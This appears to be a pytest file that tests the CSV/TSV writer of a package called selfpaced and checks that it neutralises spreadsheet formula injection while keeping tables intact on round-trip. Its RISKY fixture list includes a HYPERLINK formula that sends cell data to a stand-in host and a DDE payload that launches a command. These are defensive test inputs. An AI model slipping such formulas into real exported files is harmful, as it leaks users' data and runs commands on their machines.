"""Cells that a spreadsheet would run: marked on the way out, the same again on the way in."""

from __future__ import annotations

import csv
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

from selfpaced.cli import writing
from selfpaced.cli.writing import write_frame, write_rows
from selfpaced.tables import read_table, text_rows
from selfpaced.tables.formulas import guarded, guarded_frame, unguarded

RISKY = [
    '=HYPERLINK("http://evil.example?"&A1,"click")',
    "+1 555",
    "-2+3",
    "@SUM(A1)",
    "\tx",
    "-cmd|' /C calc'!A0",
    "'=1+1",
    "=\n1+1",
    "\n=1+1",
    "\uff1d1+1",
    "\uff0b1 555",
]
HARMLESS = ["'-", "''=", "=", "-1.5", "+3", "-1e-9", "-1,5", "-", "a=b", "", "'quoted'", "-inf", "plain"]


@pytest.mark.parametrize("cell", RISKY)
def test_what_a_spreadsheet_would_run_is_marked(cell: str) -> None:
    assert guarded(cell) == f"'{cell}"
    assert unguarded(guarded(cell)) == cell
    assert unguarded(guarded(guarded(cell))) == guarded(cell)


@pytest.mark.parametrize("cell", HARMLESS)
def test_numbers_and_words_are_left_alone(cell: str) -> None:
    assert guarded(cell) == unguarded(cell) == cell


@pytest.mark.parametrize("name", ["t.csv", "t.tsv", "t.csv.gz", "t.parquet"])
def test_a_table_comes_back_as_it_was(tmp_path: Path, name: str) -> None:
    texts = [*RISKY[:4], *RISKY[5:], "word", "'quoted'"]
    frame = pd.DataFrame({"=A1": texts, "n": range(len(texts)), "x": [-1.5, 2.0] * (len(texts) // 2)})
    write_frame(frame, tmp_path / name)
    found = read_table(tmp_path / name).frame
    assert found["=A1"].tolist() == texts
    assert found["x"].tolist() == frame["x"].tolist()
    if not name.endswith((".gz", ".parquet")):
        with open(tmp_path / name, newline="", encoding="utf-8") as stream:
            cells = [
                cell for row in csv.reader(stream, delimiter="\t" if name.endswith("tsv") else ",") for cell in row
            ]
        assert not [cell for cell in cells if cell[:1] in tuple("=+@\n\uff1d\uff0b")]


def test_rows_that_are_copied_twice_are_marked_once(tmp_path: Path) -> None:
    first, second = tmp_path / "a.csv", tmp_path / "b.csv"
    first.write_text('name,n\n"=1+1",1\nword,2\n', encoding="utf-8")
    for source, target in ((first, second), (second, first)):
        table = read_table(source)
        write_rows(text_rows(table), target, ",", table.dialect)
        assert target.read_text(encoding="utf-8").splitlines()[1] == "'=1+1,1"
    assert read_table(first).frame["name"].tolist() == ["=1+1", "word"]


@pytest.mark.parametrize(("name", "separator"), [("t.csv", ","), ("t.tsv", "\t")])
def test_cells_are_written_as_pandas_writes_them(tmp_path: Path, monkeypatch, name: str, separator: str) -> None:
    monkeypatch.setattr(writing, "LINES", 700)
    rng = np.random.default_rng(0)
    n = 2000
    numbers = rng.standard_normal(n) * 10.0 ** rng.integers(-12, 20, n)
    numbers[:8] = np.nan, np.inf, -0.0, 1e15, 5e-324, 1.7976931348623157e308, 0.00012345, 999999999.5
    frame = pd.DataFrame({"numbers": numbers, "rounded": rng.standard_normal(n).round(5), "whole": np.arange(n) * 1.0})
    frame["counts"] = pd.array([None if k % 5 == 0 else k for k in range(n)], dtype="Int64")
    frame["texts, and more"] = ["x,y", 'say "hi"', "a\tb", "plain"] * (n // 4)
    frame["late"] = [None] * (n - 500) + ["=x", "two\nlines"] * 250
    frame["mixed"] = pd.Series([1, "a", None, True] * (n // 4), dtype=object)
    for columns in (frame, frame.drop(columns="mixed")):
        write_frame(columns, tmp_path / name)
        expected = guarded_frame(columns).to_csv(index=False, sep=separator, lineterminator="\n")
        assert (tmp_path / name).read_bytes().decode() == expected


def test_dates_of_a_column_have_one_format_and_huge_integers_are_written(tmp_path, monkeypatch):
    monkeypatch.setattr("selfpaced.cli.writing.LINES", 2)  # a piece of midnights alone, and one without
    day = pd.Series(pd.to_datetime(["2024-01-01 00:00", "2024-01-02 00:00", "2024-01-03 10:00", None]))
    frame = pd.DataFrame({"day": day, "zone": day.dt.tz_localize("UTC"), "n": [2**70, 1, 2, 3], "x": [0.5, 1, 2, 3]})
    write_frame(frame, tmp_path / "pieces.csv")
    assert (tmp_path / "pieces.csv").read_text() == frame.to_csv(index=False)
